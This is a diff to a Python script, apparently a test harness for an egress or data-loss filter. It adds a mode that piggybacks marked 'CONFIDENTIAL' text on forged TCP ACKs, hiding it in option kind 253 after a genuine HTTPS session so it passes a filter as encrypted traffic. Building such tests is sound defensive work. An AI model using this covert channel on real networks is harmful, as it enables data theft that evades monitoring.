@@ -54,10 +54,50 @@ def wg_then_surplus(s4, d4, mark, count):
         r4.sendto(ip4(s4, d4, 17, body, 4000 + i), (d4, 0))
         time.sleep(0.05)
 
+def tls_optack(s4, d4, mark, count):
+    """A real HTTPS connection (allowed as encrypted), then bare ACKs at its
+    current sequence numbers, each with a kind-253 option: the marker and
+    text."""
+    import ssl, select
+    sn = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+    sn.bind(("eth0", 0)); sn.setblocking(False)
+    ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+    t = socket.socket(); t.bind((s4, 41200)); t.connect((d4, 443))
+    c = ctx.wrap_socket(t)
+    c.sendall(b"GET /bytes/100 HTTP/1.1\r\nHost: x\r\n\r\n")
+    c.settimeout(2)
+    try: c.recv(4000)
+    except Exception: pass
+    time.sleep(3)
+    seq = ack = None
+    while True:
+        try: f = sn.recv(70000)
+        except BlockingIOError: break
+        if f[12:14] != b"\x08\x00" or f[23] != 6: continue
+        ip = f[14:]; ihl = (ip[0] & 15) * 4; tcp = ip[ihl:]
+        if ip[12:16] == socket.inet_aton(s4) and struct.unpack("!H", tcp[0:2])[0] == 41200:
+            tl = struct.unpack("!H", ip[2:4])[0] - ihl - (tcp[12] >> 4) * 4
+            seq = (struct.unpack("!I", tcp[4:8])[0] + tl + (1 if tcp[13] & 3 else 0)) & 0xffffffff
+            ack = struct.unpack("!I", tcp[8:12])[0]
+    print("seq", seq, "ack", ack, flush=True)
+    r4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    body = (mark + " CONFIDENTIAL rotor blade alloy spec rev 7 ").encode() * 2
+    for i in range(int(count)):
+        opt = bytes([253, 40]) + body[:38]
+        tcp = struct.pack("!HHIIBBHHH", 41200, 443, seq, ack, 15 << 4, 0x10, 64240, 0, 0) + opt
+        ph = socket.inet_aton(s4) + socket.inet_aton(d4) + struct.pack("!BBH", 0, 6, len(tcp))
+        tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
+        r4.sendto(ip4(s4, d4, 6, tcp, 5000 + i), (d4, 0))
+        time.sleep(0.05)
+    time.sleep(0.5)
+    c.close()
+
 def main():
     if sys.argv[1] == "wg-server":
         return wg_server(int(sys.argv[2]))
     kind, s4, d4, s6, d6, mark, count = sys.argv[1:8]
+    if kind == "tls-optack":
+        return tls_optack(s4, d4, mark, count)
     if kind == "wg-surplus":
         return wg_then_surplus(s4, d4, mark, count)
     text = (mark + " CONFIDENTIAL rotor blade alloy spec rev 7 ").encode() * 40
